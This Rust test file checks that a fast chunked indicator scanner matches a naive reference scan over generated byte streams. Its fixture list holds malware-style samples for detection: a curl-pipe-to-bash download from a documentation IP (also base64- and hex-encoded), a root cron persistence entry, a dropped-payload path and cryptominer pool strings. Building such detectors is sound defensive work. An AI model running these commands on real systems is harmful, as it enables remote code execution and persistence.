#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
//! The same kinds without any filter: every position of the bytes is held against every literal and
//! every anchor, one byte after the other. Slow, and too simple to be wrong: what the fast scan finds
//! is held against it.

use super::begun::Begun;
use super::closer::{Closer, Until};
use super::{Carved, Found, PADDING, Scanner, Step, Stream, Text, printable, raw};
use crate::carve::kinds;
use proptest::prelude::*;

fn letter(text: &Text<'_>, at: usize) -> bool {
    printable(text.byte(at)) && text.byte(at + 1) == 0
}

fn scan(scanner: &Scanner, text: &Text<'_>, length: usize, found: &mut Found) {
    let owned = 0..length;
    let closer = Closer { scanner, text, owned: &owned };
    let mut until = Until::default();
    let narrow = text.way.ends_wide();
    let mut word_end = 0;
    for at in 0..length {
        for number in 0..scanner.grams.literals() {
            let literal = scanner.grams.text(number);
            if text.bytes[at..]
                .get(..literal.len())
                .is_some_and(|b| b.eq_ignore_ascii_case(literal))
            {
                closer.examine(number, at, at + literal.len(), found);
            }
        }
        closer.anchor(at, found);
        if !narrow {
            raw::look(text, at, &mut until, &owned, found);
        }
        let word = text.forward(at, 16, |b| b.is_ascii_alphanumeric());
        if word == at + 16 && at >= word_end {
            word_end = kinds::word(text, at, &owned, found);
        }
        // A run of six wide letters that begins here.
        if !narrow && (at < 2 || !letter(text, at - 2)) && (0..6).all(|n| letter(text, at + 2 * n))
        {
            let letters: Vec<u8> = text.bytes[at..].iter().step_by(2).copied().collect();
            let count = (0..).take_while(|n| letter(text, at + 2 * n)).count();
            let mut narrowed = letters[..count].to_vec();
            narrowed.resize(count + PADDING, 0);
            let way = text.way.then(Step::Wide).unwrap();
            let inner = Text {
                bytes: &narrowed,
                base: text.offset(at),
                step: 2 * text.step,
                way,
                start: 0,
            };
            // Its places are its own.
            let outer = found.swap(Begun::default());
            scan(scanner, &inner, count, found);
            found.swap(outer);
        }
    }
}

fn shown(carved: &[Carved]) -> Vec<String> {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let line = |c: &Carved| {
        format!("{} {} {} {} x{} {}", c.kind, text(&c.value), c.offset, c.way, c.count, c.why)
    };
    carved.iter().map(line).collect()
}

const PIECES: &[&[u8]] = &[
    b"http://198.51.100.7/x",
    b"stratum+tcp://ap.luckpool.net:3956",
    b"xmr.nanopool.org",
    b"\"method\":\"mining.subscribe\"",
    b"Payload dropped to: /usr/sbin/w1",
    b"203.0.113.99:4444",
    b"[2001:db8::7]:3333",
    b"someone@mail.kz",
    b"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
    b"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA==",
    b"687474703a2f2f3139382e35312e3130302e392f78",
    b"curl -fsSL http://198.51.100.9/x | bash",
    b"--donate-level=1",
    b"a4.onion",
    b"* * * * * root /tmp/.x/run",
    b"2.7.1",
    b"://",
    b"x:9",
    b"0.0.0",
    b"a@b.kz",
];

/// Bytes in which much is nearly something: pieces of text and of none, one after the other.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        3 => prop::sample::select(PIECES).prop_map(<[u8]>::to_vec),
        2 => (prop::sample::select(PIECES), 1..=255_u8)
            .prop_map(|(text, key)| text.iter().map(|b| b ^ key).collect()),
        2 => prop::sample::select(PIECES)
            .prop_map(|text| text.iter().flat_map(|b| [*b, 0]).collect()),
        3 => prop::collection::vec(any::<u8>(), 0..70),
        4 => (0..140_usize).prop_map(|length| vec![0; length]),
        2 => "[ -~\n]{0,40}".prop_map(String::into_bytes),
    ];
    prop::collection::vec(piece, 1..14).prop_map(|pieces| pieces.concat())
}

fn both(bytes: &[u8], chunk: usize) -> (Vec<String>, Vec<String>) {
    let scanner = Scanner::own();
    let mut naive = Found::default();
    let mut padded = bytes.to_vec();
    padded.resize(bytes.len() + PADDING, 0);
    scan(&scanner, &Text::ascii(&padded, 0), bytes.len(), &mut naive);
    let mut fast = Found::default();
    Stream::with_chunk(&mut fast, 0, chunk).feed(bytes);
    (shown(&fast.finish().0), shown(&naive.finish().0))
}

/// Every literal and every piece alone among zeros, its first letters in one block and the rest in
/// the next: a run too short to be told in the first is looked back at.
#[test]
fn what_lies_across_the_edge_of_a_block_is_seen() {
    let scanner = Scanner::own();
    let literals = (0..scanner.grams.literals()).map(|number| scanner.grams.text(number).to_vec());
    for text in literals.chain(PIECES.iter().map(|piece| piece.to_vec())) {
        for before in 57..65 {
            let mut bytes = vec![0; before];
            bytes.extend(&text);
            bytes.extend([0; 70]);
            let (fast, naive) = both(&bytes, 4096);
            assert_eq!(fast, naive, "{:?} at {before}", String::from_utf8_lossy(&text));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn the_fast_scan_finds_what_the_naive_one_does(bytes in bytes(), chunk in 64_usize..4096) {
        let (fast, naive) = both(&bytes, chunk);
        prop_assert_eq!(fast, naive);
    }
}
